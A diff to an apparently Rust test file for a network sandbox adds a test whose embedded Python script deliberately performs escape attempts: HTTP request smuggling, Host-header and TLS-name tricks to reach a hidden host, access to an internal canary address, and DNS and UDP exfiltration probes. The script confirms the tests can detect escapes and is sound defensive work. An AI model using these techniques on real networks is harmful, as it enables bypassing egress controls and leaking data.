@@ -1,5 +1,6 @@
 //! The internet that the other tests stand on: clients of the host reach its servers, without any sandbox.
 
+use crate::{ground::Ground, tls};
 use std::{
     env, fs,
     io::{BufRead as _, BufReader, Write as _},
@@ -9,7 +10,7 @@ use std::{
 };
 use support::{
     Who, World, eventually,
-    internet::{Internet, WEB, WEB_V4, installed},
+    internet::{HIDDEN, Internet, WEB, WEB_V4, installed},
     stdout,
 };
 
@@ -17,7 +18,7 @@ const ASK: &str = "import socket; print(sorted({a[4][0] for a in socket.getaddri
 
 #[test]
 fn names_have_the_addresses_of_the_test() {
-    let Some(internet) = Internet::new() else { return };
+    let Some(internet) = Internet::new().filter(|_| installed("python3")) else { return };
     for who in Who::all() {
         let world = World::new(who);
         internet.name(WEB, &[WEB_V4]);
@@ -63,6 +64,38 @@ fn every_address_is_the_tests_own() {
     }
 }
 
+/// Or else the tests of attacks would show nothing.
+#[test]
+fn attacks_succeed_where_there_is_no_sandbox() {
+    for ground in Ground::all() {
+        let canary = ground.canary("10.0.0.7:81");
+        let datagrams = ground.internet.datagrams("8.8.8.8:53");
+        ground.internet.name("inward.example.com", &["10.0.0.7"]);
+        let script = r#"
+works()
+for request in get(HIDDEN), get(HIDDEN, "http://" + HIDDEN + "/hello"), get(WEB, "http://" + HIDDEN + "/hello"):
+    assert b"Hello from hidden" in ask(WEB, 80, request, end=True), request
+smuggled = f"POST /live/head HTTP/1.1\r\nHost: {WEB}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()
+assert b"Hello from hidden" in ask(WEB, 80, smuggled + get(HIDDEN))
+for how, cut in CUTS.items():
+    for protocols in ["http/1.1"], MANY, TOO_MANY:
+        if how != "bytes" or len(protocols) == 1:
+            assert b"Hello from hidden" in secure(WEB, 443, HIDDEN, get(HIDDEN), cut, protocols), how
+assert b"Hello from hidden" in secure(WEB, 443, WEB, get(HIDDEN))
+assert b" 421 " in secure(WEB, 443, None, get("x"))
+assert b"canary" in ask("inward.example.com", 81, get("x"))
+assert b"hidden" in subprocess.check_output(["curl", "-sSfL", f"https://{WEB}/to-another-host"])
+assert lookup([b"secret", b"example", b"com"])[0] == 3
+socket.socket(type=socket.SOCK_DGRAM).sendto(b"data", ("8.8.8.8", 53))
+"#;
+        ground.outside(&format!("{}\n{script}", tls::TOOLS));
+        assert_eq!(canary.count(), 1);
+        assert_eq!(datagrams.recv(&mut [0; 9]).unwrap(), 4);
+        assert!(ground.internet.queries().iter().any(|query| query.name == "secret.example.com"));
+        assert!(ground.internet.requests().iter().any(|line| line.starts_with(HIDDEN)));
+    }
+}
+
 /// Set for a process that this test starts: itself, to be killed.
 const INNER: &str = "AGENTKERNEL_TEST_INNER";
 
@@ -86,7 +119,7 @@ fn all_of_it_ends_with_the_test_even_if_that_is_killed() {
         assert!(users(&own) >= 2);
     }
     if env::var_os(INNER).is_some() {
-        println!("network={own}");
+        println!("network={} {}", own.trim(), internet.path("").display());
         loop {
             thread::park();
         }
@@ -97,10 +130,12 @@ fn all_of_it_ends_with_the_test_even_if_that_is_killed() {
     let mut inner = inner.spawn().unwrap();
     let lines = BufReader::new(inner.stdout.take().unwrap()).lines().map_while(Result::ok);
     let other = lines.filter_map(|line| Some(line.split_once("network=")?.1.to_owned())).next().unwrap();
-    assert!(own.trim() != other && users(&other) >= 1);
+    let (other, folder) = other.split_once(' ').unwrap();
+    assert!(own.trim() != other && users(other) >= 1);
     inner.kill().unwrap();
     inner.wait().unwrap();
-    eventually("nothing is left of a killed test", || users(&other) == 0);
+    eventually("nothing is left of a killed test", || users(other) == 0);
+    fs::remove_dir_all(folder).unwrap();
     drop(internet);
     eventually("nothing is left of an internet", || users(&own) == 0);
 }
